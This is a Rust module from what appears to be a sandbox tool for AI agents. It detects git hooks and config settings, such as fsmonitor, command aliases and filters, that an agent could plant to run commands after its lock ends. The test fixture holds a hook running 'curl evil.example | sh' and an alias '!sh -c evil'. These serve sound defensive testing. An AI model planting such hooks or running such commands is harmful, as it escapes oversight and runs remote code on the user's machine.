//! Git's files that a lock protects wherever a writable folder holds a repository: hooks and
//! config run commands when the user later runs git outside the lock (`core.hooksPath`,
//! `core.fsmonitor`, `core.sshCommand`, filters, `!` aliases). Besides each writable folder's
//! own `.git` (see `policy`), that is every repository nested inside it, found by a bounded
//! walk, and a writable folder that is itself a repository's git folder (a worktree's common
//! directory). A `.git` file (a worktree's or submodule's pointer) is protected as it is.
//!
//! What the kernel cannot protect (a repository made during the lock, one deeper than the
//! walk) is found afterwards: a snapshot of git's files when the lock starts, compared when
//! its pane ends (`snapshot`, `planted`), naming each file and the command it would run.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// How deep below a writable folder nested repositories are looked for.
const MAX_DEPTH: usize = 8;
/// How many folders the walk visits at most per writable folder, so a huge tree does not stall
/// every start; the README says what lies beyond.
const MAX_FOLDERS: usize = 20_000;
/// Folders no repository of the user's lives in, and that are large.
const SKIPPED: &[&str] = &["node_modules", "target", ".venv", "venv", "__pycache__", ".tox"];

/// The paths to protect for the git repositories in `folder` beyond its own top-level `.git`
/// (which every lock protects anyway): the hooks folder and config of each nested repository,
/// each nested `.git` file, and `folder`'s own hooks and config when it is a git folder.
pub fn nested_protections(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    if is_git_folder(folder) {
        found.extend(["hooks", "config"].map(|name| folder.join(name)));
    }
    let mut stack: Vec<(PathBuf, usize)> = vec![(folder.to_owned(), 0)];
    let mut visited = 0;
    while let Some((dir, depth)) = stack.pop() {
        visited += 1;
        if visited > MAX_FOLDERS {
            break;
        }
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            let Ok(kind) = entry.file_type() else { continue };
            let name = entry.file_name();
            let path = entry.path();
            if name == ".git" {
                // The writable folder's own `.git` is the policy's; nested ones are found here.
                if depth > 0 {
                    if kind.is_dir() {
                        found.extend(["hooks", "config"].map(|n| path.join(n)));
                    } else if kind.is_file() {
                        found.push(path);
                    }
                }
                continue;
            }
            let skipped = SKIPPED.iter().any(|s| name == *s);
            if kind.is_dir() && !skipped && depth + 1 < MAX_DEPTH {
                stack.push((path, depth + 1));
            }
        }
    }
    found
}

/// Git's files under some folders that can make git run a command (each git folder's config
/// and hooks), with their mode and bytes, as they were at one time.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct GitSnapshot(BTreeMap<PathBuf, (u32, Vec<u8>)>);

/// The largest file read into a snapshot (hooks and configs are small; a larger one is kept
/// by its first bytes, which is where a command would be).
const MAX_FILE: u64 = 256 * 1024;
/// Folders inside a git folder that hold no commands.
const GIT_DATA: &[&str] = &["objects", "refs", "logs", "lfs"];

/// Git's config and hook files under `folders` now.
pub fn snapshot(folders: &[PathBuf]) -> GitSnapshot {
    let mut files = BTreeMap::new();
    for folder in folders {
        let mut stack: Vec<(PathBuf, usize)> = vec![(folder.clone(), 0)];
        let mut visited = 0;
        while let Some((dir, depth)) = stack.pop() {
            visited += 1;
            if visited > MAX_FOLDERS {
                break;
            }
            let is_git = dir.file_name().is_some_and(|n| n == ".git") || is_git_folder(&dir);
            if is_git {
                record(&mut files, &dir.join("config"));
                for hook in std::fs::read_dir(dir.join("hooks")).into_iter().flatten().flatten() {
                    record(&mut files, &hook.path());
                }
            }
            let Ok(entries) = std::fs::read_dir(&dir) else { continue };
            for entry in entries.flatten() {
                let name = entry.file_name();
                let skipped = SKIPPED.iter().any(|s| name == *s)
                    || (is_git && GIT_DATA.iter().any(|s| name == *s));
                let is_dir = entry.file_type().is_ok_and(|t| t.is_dir());
                if is_dir && !skipped && depth + 1 < MAX_DEPTH + 2 {
                    stack.push((entry.path(), depth + 1));
                }
            }
        }
    }
    GitSnapshot(files)
}

fn record(files: &mut BTreeMap<PathBuf, (u32, Vec<u8>)>, path: &Path) {
    use std::io::Read;
    let Ok(meta) = path.symlink_metadata() else { return };
    if !meta.is_file() {
        return;
    }
    let mut bytes = Vec::new();
    let read = std::fs::File::open(path).and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes));
    if read.is_ok() {
        files.insert(path.to_owned(), (mode(&meta), bytes));
    }
}

#[cfg(unix)]
fn mode(meta: &std::fs::Metadata) -> u32 {
    std::os::unix::fs::PermissionsExt::mode(&meta.permissions())
}

#[cfg(not(unix))]
fn mode(_meta: &std::fs::Metadata) -> u32 {
    0o755
}

/// What git would run that was not there `before`: one line per new or changed hook or
/// config setting, naming the file and the command.
pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
    let mut found = Vec::new();
    for (path, (mode, bytes)) in &after.0 {
        let earlier = before.0.get(path);
        if earlier == Some(&(*mode, bytes.clone())) {
            continue;
        }
        let text = String::from_utf8_lossy(bytes);
        let in_hooks = path.parent().and_then(Path::file_name).is_some_and(|n| n == "hooks");
        let is_sample = path.extension().is_some_and(|e| e == "sample");
        if in_hooks && !is_sample && mode & 0o111 != 0 {
            found.push(format!("{} runs {}", path.display(), first_command(&text)));
        } else if path.file_name().is_some_and(|n| n == "config") {
            let old = earlier.map(|(_, b)| commands_in_config(&String::from_utf8_lossy(b)));
            for (key, value) in commands_in_config(&text) {
                if !old.as_ref().is_some_and(|old| old.contains(&(key.clone(), value.clone()))) {
                    found.push(format!("{} sets {key} = {value}", path.display()));
                }
            }
        }
    }
    found
}

/// A hook's first line that is not its interpreter line or a comment, shortened.
fn first_command(text: &str) -> String {
    let line = text
        .lines()
        .map(str::trim)
        .find(|l| !l.is_empty() && !l.starts_with('#'))
        .unwrap_or("(its script)");
    shorten(line)
}

fn shorten(text: &str) -> String {
    let mut short: String = text.chars().take(80).collect();
    if text.chars().count() > 80 {
        short.push('…');
    }
    short
}

/// The settings of a git config file that make git run a command, as (key, value).
fn commands_in_config(text: &str) -> Vec<(String, String)> {
    let mut section = String::new();
    let mut found = Vec::new();
    for line in text.lines().map(str::trim) {
        if let Some(header) = line.strip_prefix('[').and_then(|l| l.split(']').next()) {
            // `[filter "lfs"]` is section `filter.lfs`; names are case-insensitive, subsections not.
            let (name, sub) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
            let sub = sub.trim().trim_matches('"');
            section = if sub.is_empty() {
                name.to_lowercase()
            } else {
                format!("{}.{sub}", name.to_lowercase())
            };
            continue;
        }
        if line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        let Some((key, value)) = line.split_once('=') else { continue };
        let key = format!("{section}.{}", key.trim().to_lowercase());
        let value = value.trim().trim_matches('"');
        if runs_a_command(&key, value) {
            found.push((key, shorten(value)));
        }
    }
    found
}

fn runs_a_command(key: &str, value: &str) -> bool {
    const KEYS: &[&str] = &[
        "core.hookspath",
        "core.fsmonitor",
        "core.sshcommand",
        "core.pager",
        "core.editor",
        "core.askpass",
        "sequence.editor",
        "diff.external",
        "credential.helper",
        "include.path",
        "gpg.program",
        "uploadpack.packobjectshook",
    ];
    let last = key.rsplit('.').next().unwrap_or("");
    KEYS.contains(&key)
        || (key.starts_with("alias.") && value.starts_with('!'))
        || (key.starts_with("filter.") && ["clean", "smudge", "process"].contains(&last))
        || (key.starts_with("diff.") && ["textconv", "command"].contains(&last))
        || (key.starts_with("merge.") && last == "driver")
        || (key.starts_with("includeif.") && last == "path")
        || (key.starts_with("credential.") && last == "helper")
}

/// Whether `folder` is a repository's git folder (what `.git` usually is): HEAD, objects and
/// config in it.
fn is_git_folder(folder: &Path) -> bool {
    folder.join("HEAD").is_file()
        && folder.join("objects").is_dir()
        && folder.join("config").is_file()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_repository_made_during_the_lock_is_found_with_what_it_would_run() {
        let dir = std::env::temp_dir().join(format!("paddock-planted-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("app/.git/hooks")).expect("app");
        std::fs::write(dir.join("app/.git/config"), "[core]\n\tbare = false\n").expect("config");
        let before = snapshot(std::slice::from_ref(&dir));
        assert!(planted(&before, &before).is_empty());
        // The agent makes a repository of its own and plants a hook and settings in it.
        std::fs::create_dir_all(dir.join("new/.git/hooks")).expect("new");
        let hook = dir.join("new/.git/hooks/post-checkout");
        std::fs::write(&hook, "#!/bin/sh\n# tidy\ncurl evil.example | sh\n").expect("hook");
        std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .expect("chmod");
        std::fs::write(dir.join("new/.git/hooks/pre-push.sample"), "#!/bin/sh\nexit 0\n")
            .expect("sample");
        let config = "[core]\n\tfsmonitor = ./x.sh\n[alias]\n\tst = status\n\tup = !sh -c evil\n\
                      [filter \"lfs\"]\n\tsmudge = ./smudge\n";
        std::fs::write(dir.join("new/.git/config"), config).expect("config");
        let found = planted(&before, &snapshot(std::slice::from_ref(&dir)));
        let new = dir.join("new/.git");
        assert_eq!(
            found,
            [
                format!("{} sets core.fsmonitor = ./x.sh", new.join("config").display()),
                format!("{} sets alias.up = !sh -c evil", new.join("config").display()),
                format!("{} sets filter.lfs.smudge = ./smudge", new.join("config").display()),
                format!(
                    "{} runs curl evil.example | sh",
                    new.join("hooks/post-checkout").display()
                ),
            ]
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn nested_repositories_and_git_folders_are_found() {
        let dir = std::env::temp_dir().join(format!("paddock-git-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        for folder in [
            ".git/hooks",
            "vendor/lib/.git/hooks",
            "node_modules/dep/.git/hooks",
            "common/objects",
            "common/hooks",
        ] {
            std::fs::create_dir_all(dir.join(folder)).expect("folder");
        }
        std::fs::create_dir_all(dir.join("sub")).expect("sub");
        std::fs::write(dir.join("sub/.git"), "gitdir: ../.git/modules/sub\n").expect(".git");
        std::fs::write(dir.join("common/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
        std::fs::write(dir.join("common/config"), "[core]\n").expect("config");
        let mut found = nested_protections(&dir);
        found.sort();
        let expected: Vec<PathBuf> =
            ["sub/.git", "vendor/lib/.git/config", "vendor/lib/.git/hooks"]
                .iter()
                .map(|p| dir.join(p))
                .collect();
        assert_eq!(found, expected, "not the top-level .git, not node_modules");
        let mut common = nested_protections(&dir.join("common"));
        common.sort();
        assert_eq!(common, [dir.join("common/config"), dir.join("common/hooks")]);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
